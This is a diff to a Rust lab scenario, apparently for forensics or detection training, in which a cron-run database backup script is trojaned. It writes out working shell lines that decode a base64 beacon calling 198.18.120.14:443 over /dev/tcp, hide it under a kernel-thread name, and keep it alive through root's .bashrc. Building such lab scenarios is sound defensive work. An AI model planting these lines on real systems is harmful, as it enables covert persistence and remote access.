@@ -1,5 +1,5 @@
 //! A legitimate backup script that cron runs, with lines appended by the
-//! attacker that drop a beacon into a hidden folder and start it under a
+//! attacker (naming the payload through a variable) that drop a beacon into a hidden folder and start it under a
 //! kernel-thread name; one line added to root's .bashrc relaunches it.
 //! Next to the script's own lines, the cron.d file calling it, other
 //! cron.d files, the admin's aliases, a WAL shipper pushing to the NAS and
@@ -10,11 +10,11 @@ use crate::host::lab::topology::{Host, Segment};
 
 pub(super) static SCENARIO: Scenario = Scenario {
     name: "trojaned-script",
-    summary: "lines appended to the cron-run /usr/local/bin/db-backup.sh drop /var/tmp/.X11-unix-cache/xsessiond and start it as [kworker/u8:1], beaconing to 198.18.120.14:443; a line in root's .bashrc relaunches it",
+    summary: "three lines appended to the cron-run /usr/local/bin/db-backup.sh drop /var/tmp/.X11-unix-cache/xsessiond and start it as [kworker/u8:1], beaconing to 198.18.120.14:443; a line in root's .bashrc relaunches it",
     story: "On the database server db (10.63.0.25), /etc/cron.d/db-backup runs \
-            /usr/local/bin/db-backup.sh every night. The attacker appended two lines to the \
-            script: one decodes a base64 payload into /var/tmp/.X11-unix-cache/xsessiond, the \
-            other starts it detached with argv[0] rewritten to [kworker/u8:1]. The payload \
+            /usr/local/bin/db-backup.sh every night. The attacker appended three lines to the \
+            script: one sets d=/var/tmp/.X11-unix-cache, one decodes a base64 payload into \
+            $d/xsessiond, the last starts it detached with argv[0] rewritten to [kworker/u8:1]. The payload \
             checks in with 198.18.120.14:443 every 3 s (the address only in base64 in the \
             script). One line appended to /root/.bashrc relaunches it when it is not running. \
             The script's own lines, the cron.d files, the admin's aliases, the WAL shipper \
@@ -31,6 +31,11 @@ pub(super) static SCENARIO: Scenario = Scenario {
         }],
         files: &[TS_PAYLOAD],
         persistence: &[
+            Entry {
+                what: "the line appended to the backup script that names the hidden folder",
+                path: TS_SCRIPT,
+                line: Some(TS_DIR_LINE),
+            },
             Entry {
                 what: "the line appended to the backup script that drops the payload",
                 path: TS_SCRIPT,
@@ -150,8 +155,9 @@ pub(super) static SCENARIO: Scenario = Scenario {
         Step::Append {
             path: TS_SCRIPT,
             content: concat!(
-                "[ -x /var/tmp/.X11-unix-cache/xsessiond ] || { mkdir -p /var/tmp/.X11-unix-cache; echo IyEvYmluL2Jhc2gKIyBYMTEgc2Vzc2lvbiBjYWNoZQp3aGlsZSA6OyBkbwogICAgaWYgZXhlYyAzPD4vZGV2L3RjcC8xOTguMTguMTIwLjE0LzQ0MzsgdGhlbgogICAgICAgIHByaW50ZiAnSEVMTyAlc1xuJyAiJChjYXQgL3Byb2Mvc3lzL2tlcm5lbC9ob3N0bmFtZSkiID4mMwogICAgICAgIHJlYWQgLXIgLXQgMyAtdSAzIF8KICAgICAgICBleGVjIDM+Ji0KICAgIGZpCiAgICBzbGVlcCAzCmRvbmUK | base64 -d > /var/tmp/.X11-unix-cache/xsessiond; chmod 755 /var/tmp/.X11-unix-cache/xsessiond; }\n",
-                "pgrep -f .X11-unix-cache/xsessiond >/dev/null || (cd / && exec -a '[kworker/u8:1]' /bin/bash /var/tmp/.X11-unix-cache/xsessiond </dev/null >/dev/null 2>&1 &)\n",
+                "d=/var/tmp/.X11-unix-cache\n",
+                "[ -x $d/xsessiond ] || { mkdir -p $d; echo IyEvYmluL2Jhc2gKIyBYMTEgc2Vzc2lvbiBjYWNoZQp3aGlsZSA6OyBkbwogICAgaWYgZXhlYyAzPD4vZGV2L3RjcC8xOTguMTguMTIwLjE0LzQ0MzsgdGhlbgogICAgICAgIHByaW50ZiAnSEVMTyAlc1xuJyAiJChjYXQgL3Byb2Mvc3lzL2tlcm5lbC9ob3N0bmFtZSkiID4mMwogICAgICAgIHJlYWQgLXIgLXQgMyAtdSAzIF8KICAgICAgICBleGVjIDM+Ji0KICAgIGZpCiAgICBzbGVlcCAzCmRvbmUK | base64 -d > $d/xsessiond; chmod 755 $d/xsessiond; }\n",
+                "pgrep -f .X11-unix-cache/xsessiond >/dev/null || (cd / && exec -a '[kworker/u8:1]' /bin/bash $d/xsessiond </dev/null >/dev/null 2>&1 &)\n",
             ),
         },
         Step::Write {
@@ -198,8 +204,9 @@ pub(super) static SCENARIO: Scenario = Scenario {
 
 const TS_SCRIPT: &str = "/usr/local/bin/db-backup.sh";
 const TS_PAYLOAD: &str = "/var/tmp/.X11-unix-cache/xsessiond";
-const TS_DROP_LINE: &str = "[ -x /var/tmp/.X11-unix-cache/xsessiond ] || { mkdir -p /var/tmp/.X11-unix-cache; echo IyEvYmluL2Jhc2gKIyBYMTEgc2Vzc2lvbiBjYWNoZQp3aGlsZSA6OyBkbwogICAgaWYgZXhlYyAzPD4vZGV2L3RjcC8xOTguMTguMTIwLjE0LzQ0MzsgdGhlbgogICAgICAgIHByaW50ZiAnSEVMTyAlc1xuJyAiJChjYXQgL3Byb2Mvc3lzL2tlcm5lbC9ob3N0bmFtZSkiID4mMwogICAgICAgIHJlYWQgLXIgLXQgMyAtdSAzIF8KICAgICAgICBleGVjIDM+Ji0KICAgIGZpCiAgICBzbGVlcCAzCmRvbmUK | base64 -d > /var/tmp/.X11-unix-cache/xsessiond; chmod 755 /var/tmp/.X11-unix-cache/xsessiond; }";
-const TS_START_LINE: &str = "pgrep -f .X11-unix-cache/xsessiond >/dev/null || (cd / && exec -a '[kworker/u8:1]' /bin/bash /var/tmp/.X11-unix-cache/xsessiond </dev/null >/dev/null 2>&1 &)";
+const TS_DIR_LINE: &str = "d=/var/tmp/.X11-unix-cache";
+const TS_DROP_LINE: &str = "[ -x $d/xsessiond ] || { mkdir -p $d; echo IyEvYmluL2Jhc2gKIyBYMTEgc2Vzc2lvbiBjYWNoZQp3aGlsZSA6OyBkbwogICAgaWYgZXhlYyAzPD4vZGV2L3RjcC8xOTguMTguMTIwLjE0LzQ0MzsgdGhlbgogICAgICAgIHByaW50ZiAnSEVMTyAlc1xuJyAiJChjYXQgL3Byb2Mvc3lzL2tlcm5lbC9ob3N0bmFtZSkiID4mMwogICAgICAgIHJlYWQgLXIgLXQgMyAtdSAzIF8KICAgICAgICBleGVjIDM+Ji0KICAgIGZpCiAgICBzbGVlcCAzCmRvbmUK | base64 -d > $d/xsessiond; chmod 755 $d/xsessiond; }";
+const TS_START_LINE: &str = "pgrep -f .X11-unix-cache/xsessiond >/dev/null || (cd / && exec -a '[kworker/u8:1]' /bin/bash $d/xsessiond </dev/null >/dev/null 2>&1 &)";
 const TS_BASHRC_LINE: &str = "pgrep -f .X11-unix-cache/xsessiond >/dev/null 2>&1 || (cd / && exec -a '[kworker/u8:1]' /bin/bash /var/tmp/.X11-unix-cache/xsessiond </dev/null >/dev/null 2>&1 &)";
 const TS_SCRIPT_TEXT: &str = r#"#!/bin/bash
 # db-backup: nightly dump of the application database, 14 days kept.
